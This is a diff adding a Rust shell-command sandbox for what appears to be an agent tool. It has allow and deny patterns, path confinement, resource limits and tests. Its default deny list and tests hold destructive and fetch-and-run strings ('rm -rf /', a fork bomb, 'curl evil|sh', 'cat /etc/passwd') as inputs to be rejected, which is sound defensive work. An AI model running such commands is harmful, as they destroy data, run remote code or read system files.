@@ -0,0 +1,421 @@
+use serde::{ Deserialize, Serialize };
+use std::path::{ Path, PathBuf };
+use std::process::Stdio;
+use std::time::Duration;
+use tokio::io::{ AsyncRead, AsyncReadExt };
+
+use crate::tools::shell_tool::{ Shell, ShellError, ShellOutput };
+
+/// Environment variables passed to sandboxed commands by default
+pub const DEFAULT_ENV_ALLOW_LIST: [&str; 4] = ["PATH", "LANG", "TERM", "TZ"];
+
+/// Command substitutions and redirections, which an allow list cannot vet
+const UNCHECKABLE_SYNTAX: [&str; 5] = ["$(", "`", "<(", ">", "<"];
+
+/// Restrictions applied to every command of a sandboxed `ShellTool`.
+///
+/// Path checks are a guard against mistakes, not an isolation boundary: run the server
+/// as an unprivileged user (or in a container) as well.
+#[derive(Deserialize, Serialize, Clone, Debug)]
+pub struct ShellSandbox {
+    /// Directory commands are confined to; defaults to the tool's working directory
+    pub root: Option<String>,
+    /// Variables copied from the server environment, everything else is dropped
+    pub env_allow_list: Vec<String>,
+    /// When not empty, every command in a pipeline or list must start with the words of one
+    /// of these (`ls` allows `ls -la` but not `lsblk`), and substitutions and redirections
+    /// are rejected
+    pub allow_patterns: Vec<String>,
+    /// Commands containing any of these, or running the program of one with all its flags
+    /// and arguments (`rm -rf /` also matches `/bin/rm -fr /`), are rejected
+    pub deny_patterns: Vec<String>,
+    pub max_cpu_seconds: Option<u64>,
+    pub max_memory_bytes: Option<u64>,
+    /// Bytes kept from each of stdout and stderr
+    pub max_output_bytes: usize,
+    /// The whole process group is killed once the command runs longer than this
+    pub timeout: Duration,
+}
+
+impl Default for ShellSandbox {
+    fn default() -> Self {
+        Self {
+            root: None,
+            env_allow_list: DEFAULT_ENV_ALLOW_LIST.map(String::from).to_vec(),
+            allow_patterns: Vec::new(),
+            deny_patterns: ["rm -rf /", "sudo ", "mkfs", ":(){"].map(String::from).to_vec(),
+            max_cpu_seconds: Some(30),
+            max_memory_bytes: Some(1024 * 1024 * 1024),
+            max_output_bytes: 64 * 1024,
+            timeout: Duration::from_secs(60),
+        }
+    }
+}
+
+impl ShellSandbox {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn with_root(mut self, root: &str) -> Self {
+        self.root = Some(root.to_string());
+        self
+    }
+
+    pub fn allow_env(mut self, name: &str) -> Self {
+        self.env_allow_list.push(name.to_string());
+        self
+    }
+
+    pub fn allow(mut self, pattern: &str) -> Self {
+        self.allow_patterns.push(pattern.to_string());
+        self
+    }
+
+    pub fn deny(mut self, pattern: &str) -> Self {
+        self.deny_patterns.push(pattern.to_string());
+        self
+    }
+
+    pub fn with_timeout(mut self, timeout: Duration) -> Self {
+        self.timeout = timeout;
+        self
+    }
+
+    pub fn with_max_output_bytes(mut self, max_output_bytes: usize) -> Self {
+        self.max_output_bytes = max_output_bytes;
+        self
+    }
+
+    pub fn with_limits(
+        mut self,
+        max_cpu_seconds: Option<u64>,
+        max_memory_bytes: Option<u64>
+    ) -> Self {
+        self.max_cpu_seconds = max_cpu_seconds;
+        self.max_memory_bytes = max_memory_bytes;
+        self
+    }
+
+    /// Rejects commands matching a deny pattern, missing an allow pattern or reaching
+    /// outside `root`
+    pub fn check(&self, command: &str, root: &Path) -> Result<(), ShellError> {
+        if let Some(pattern) = denied_pattern(command, &self.deny_patterns) {
+            return Err(ShellError::Denied(format!("command matches '{}'", pattern)));
+        }
+
+        if !self.allow_patterns.is_empty() {
+            if let Some(syntax) = UNCHECKABLE_SYNTAX.iter().find(|s| command.contains(**s)) {
+                return Err(ShellError::Denied(format!("'{}' is not allowed", syntax)));
+            }
+            let allowed = self.allow_patterns
+                .iter()
+                .map(|pattern| command_words(pattern).concat())
+                .filter(|words| !words.is_empty())
+                .collect::<Vec<Vec<String>>>();
+            for words in command_words(command) {
+                if !allowed.iter().any(|pattern| words.starts_with(pattern)) {
+                    return Err(ShellError::Denied(format!("'{}' is not allowed", words.join(" "))));
+                }
+            }
+        }
+
+        for word in command.split_whitespace() {
+            let word = word.trim_matches(|c| c == '"' || c == '\'');
+            if word.split(['/', '\\']).any(|part| part == "..") {
+                return Err(ShellError::Denied("paths may not contain '..'".to_string()));
+            }
+            let outside_root = word.starts_with('/') && !Path::new(word).starts_with(root);
+            if word.starts_with('~') || outside_root {
+                return Err(ShellError::Denied(format!("{} is outside {}", word, root.display())));
+            }
+        }
+        Ok(())
+    }
+
+    /// Runs `command` confined to `root` with the sandbox limits
+    pub async fn run(
+        &self,
+        shell: Shell,
+        command: &str,
+        root: &str
+    ) -> Result<ShellOutput, ShellError> {
+        let root = canonical_root(root)?;
+        self.check(command, &root)?;
+
+        let mut process = shell.command(&self.with_ulimits(shell, command));
+        self.confine(&mut process, &root);
+        process
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .kill_on_drop(true);
+        #[cfg(unix)]
+        process.process_group(0);
+
+        let mut child = process.spawn().map_err(|e| ShellError::ExecutionError(e.to_string()))?;
+        let stdout = child.stdout.take().expect("stdout is piped");
+        let stderr = child.stderr.take().expect("stderr is piped");
+        let limit = self.max_output_bytes;
+
+        let run = async {
+            let (stdout, stderr, status) = tokio::join!(
+                read_capped(stdout, limit),
+                read_capped(stderr, limit),
+                child.wait()
+            );
+            (stdout, stderr, status)
+        };
+
+        match tokio::time::timeout(self.timeout, run).await {
+            Ok(((stdout, stdout_truncated), (stderr, stderr_truncated), status)) => {
+                let status = status.map_err(|e| ShellError::ExecutionError(e.to_string()))?;
+                Ok(ShellOutput {
+                    exit_code: status.code(),
+                    stdout,
+                    stderr,
+                    truncated: stdout_truncated || stderr_truncated,
+                    timed_out: false,
+                })
+            }
+            Err(_) => {
+                kill_process_group(&mut child);
+                let _ = child.wait().await;
+                Ok(ShellOutput {
+                    exit_code: None,
+                    stdout: String::new(),
+                    stderr: format!("Command killed after {:?}", self.timeout),
+                    truncated: false,
+                    timed_out: true,
+                })
+            }
+        }
+    }
+
+    /// Runs `process` in `root` with only the allow-listed environment
+    pub(crate) fn confine(&self, process: &mut tokio::process::Command, root: &Path) {
+        let env = self.env_allow_list
+            .iter()
+            .filter_map(|name| Some((name, std::env::var(name).ok()?)));
+        process.current_dir(root).env_clear().envs(env).env("HOME", root);
+    }
+
+    /// Prefixes the command with `ulimit` for POSIX shells; other shells run without limits
+    fn with_ulimits(&self, shell: Shell, command: &str) -> String {
+        format!("{}{}", self.ulimits(shell), command)
+    }
+
+    /// `ulimit` commands enforcing the CPU and memory limits in sh and bash
+    pub(crate) fn ulimits(&self, shell: Shell) -> String {
+        let mut limits = String::new();
+        if !matches!(shell, Shell::Sh | Shell::Bash) {
+            return limits;
+        }
+        if let Some(cpu) = self.max_cpu_seconds {
+            limits.push_str(&format!("ulimit -t {}; ", cpu));
+        }
+        if let Some(memory) = self.max_memory_bytes {
+            limits.push_str(&format!("ulimit -v {}; ", memory / 1024));
+        }
+        limits
+    }
+}
+
+/// Splits a shell command into its simple commands and their words, removing quotes and
+/// backslash escapes so `r''m` and `\rm` read as `rm`. Pipelines, lists, subshells and
+/// command substitutions all start a new command. A best-effort reading for policy
+/// checks, not a shell parser.
+pub(crate) fn command_words(command: &str) -> Vec<Vec<String>> {
+    let mut commands = Vec::new();
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut quote = None;
+    let mut chars = command.chars();
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some('\''), '\'') => {
+                quote = None;
+            }
+            (Some('\''), c) => word.push(c),
+            (_, '\\') => {
+                word.extend(chars.next());
+                in_word = true;
+            }
+            (Some('"'), '"') => {
+                quote = None;
+            }
+            (None, '\'' | '"') => {
+                quote = Some(c);
+                in_word = true;
+            }
+            // Substitutions run even inside double quotes
+            (_, '(' | ')' | '`') | (None, '|' | ';' | '&' | '\n') => {
+                end_word(&mut words, &mut word, &mut in_word);
+                if !words.is_empty() {
+                    commands.push(std::mem::take(&mut words));
+                }
+            }
+            (None, c) if c.is_whitespace() => end_word(&mut words, &mut word, &mut in_word),
+            (_, c) => {
+                word.push(c);
+                in_word = true;
+            }
+        }
+    }
+    end_word(&mut words, &mut word, &mut in_word);
+    if !words.is_empty() {
+        commands.push(words);
+    }
+    commands
+}
+
+fn end_word(words: &mut Vec<String>, word: &mut String, in_word: &mut bool) {
+    if *in_word {
+        words.push(std::mem::take(word));
+        *in_word = false;
+    }
+}
+
+/// The first pattern `command` contains, or whose program one of its commands runs with
+/// every flag letter and argument of the pattern
+pub(crate) fn denied_pattern<'a>(command: &str, patterns: &'a [String]) -> Option<&'a String> {
+    let commands = command_words(command);
+    patterns.iter().find(|pattern| {
+        let denied = command_words(pattern).concat();
+        command.contains(pattern.as_str()) ||
+            (!denied.is_empty() && commands.iter().any(|words| runs(words, &denied)))
+    })
+}
+
+/// Whether `words` run the program of `pattern` (`/bin/rm` runs `rm`) with all its flags
+/// and arguments, in any order: `rm -fr /` runs `rm -rf /`
+fn runs(words: &[String], pattern: &[String]) -> bool {
+    let program = words[0].rsplit('/').next().unwrap_or_default();
+    if program != pattern[0] {
+        return false;
+    }
+    let args = &words[1..];
+    pattern[1..].iter().all(|arg| {
+        match arg.strip_prefix('-') {
+            Some(flags) if !flags.is_empty() && !flags.starts_with('-') => {
+                let short_flags = args
+                    .iter()
+                    .filter(|a| a.starts_with('-') && !a.starts_with("--"))
+                    .collect::<Vec<&String>>();
+                flags.chars().all(|flag| short_flags.iter().any(|a| a.contains(flag)))
+            }
+            _ => args.contains(arg),
+        }
+    })
+}
+
+pub(crate) fn canonical_root(root: &str) -> Result<PathBuf, ShellError> {
+    std::fs::create_dir_all(root).map_err(|e| ShellError::ExecutionError(e.to_string()))?;
+    std::fs::canonicalize(root).map_err(|e| ShellError::ExecutionError(e.to_string()))
+}
+
+/// Reads the whole stream so the process never blocks on a full pipe, keeping `limit` bytes
+async fn read_capped<R: AsyncRead + Unpin>(mut reader: R, limit: usize) -> (String, bool) {
+    let mut kept = Vec::new();
+    let mut truncated = false;
+    let mut buffer = [0u8; 8192];
+    loop {
+        match reader.read(&mut buffer).await {
+            Ok(0) | Err(_) => {
+                break;
+            }
+            Ok(read) => {
+                let room = limit.saturating_sub(kept.len());
+                kept.extend_from_slice(&buffer[..read.min(room)]);
+                truncated |= read > room;
+            }
+        }
+    }
+    (String::from_utf8_lossy(&kept).to_string(), truncated)
+}
+
+#[cfg(unix)]
+pub(crate) fn kill_process_group(child: &mut tokio::process::Child) {
+    if let Some(pid) = child.id() {
+        // The child leads its own process group, so this also kills whatever it spawned
+        unsafe {
+            libc::kill(-(pid as i32), libc::SIGKILL);
+        }
+    }
+}
+
+#[cfg(not(unix))]
+pub(crate) fn kill_process_group(child: &mut tokio::process::Child) {
+    let _ = child.start_kill();
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(sandbox: &ShellSandbox, command: &str) -> Result<(), ShellError> {
+        sandbox.check(command, Path::new("/work"))
+    }
+
+    #[test]
+    fn commands_are_split_into_unquoted_words() {
+        assert_eq!(command_words("ls -la | grep 'a b' && r''m \\-rf x"), [
+            vec!["ls", "-la"],
+            vec!["grep", "a b"],
+            vec!["rm", "-rf", "x"],
+        ]);
+        assert_eq!(command_words("echo \"$(whoami)\""), [vec!["echo", "$"], vec!["whoami"]]);
+    }
+
+    #[test]
+    fn allow_list_matches_whole_words() {
+        let sandbox = ShellSandbox::new().allow("ls").allow("git status");
+        assert!(check(&sandbox, "ls -la").is_ok());
+        assert!(check(&sandbox, "ls | git status -s").is_ok());
+        assert!(check(&sandbox, "lsblk").is_err());
+        assert!(check(&sandbox, "git push").is_err());
+        assert!(check(&sandbox, "ls; curl evil.example").is_err());
+    }
+
+    #[test]
+    fn allow_list_rejects_substitutions_and_redirections() {
+        let sandbox = ShellSandbox::new().allow("ls").allow("cat");
+        for command in [
+            "ls `rm -rf ~`",
+            "ls $(curl evil|sh)",
+            "ls > .bashrc",
+            "cat < secrets",
+            "cat <(curl evil)",
+        ] {
+            assert!(matches!(check(&sandbox, command), Err(ShellError::Denied(_))), "{}", command);
+        }
+    }
+
+    #[test]
+    fn deny_list_sees_through_reordered_flags_paths_and_quotes() {
+        let sandbox = ShellSandbox::new().deny("rm -rf");
+        for command in [
+            "rm -rf build",
+            "rm -fr build",
+            "rm -r -f build",
+            "/bin/rm -rf build",
+            "\\rm -rf build",
+            "r''m -rf build",
+            "echo $(rm -fr build)",
+            "sudo ls",
+        ] {
+            assert!(matches!(check(&sandbox, command), Err(ShellError::Denied(_))), "{}", command);
+        }
+        assert!(check(&sandbox, "rm -r build").is_ok());
+    }
+
+    #[test]
+    fn paths_outside_the_root_are_rejected() {
+        let sandbox = ShellSandbox::new();
+        assert!(check(&sandbox, "cat /work/notes.txt").is_ok());
+        assert!(check(&sandbox, "cat /etc/passwd").is_err());
+        assert!(check(&sandbox, "cat ../secret").is_err());
+        assert!(check(&sandbox, "ls ~").is_err());
+    }
+}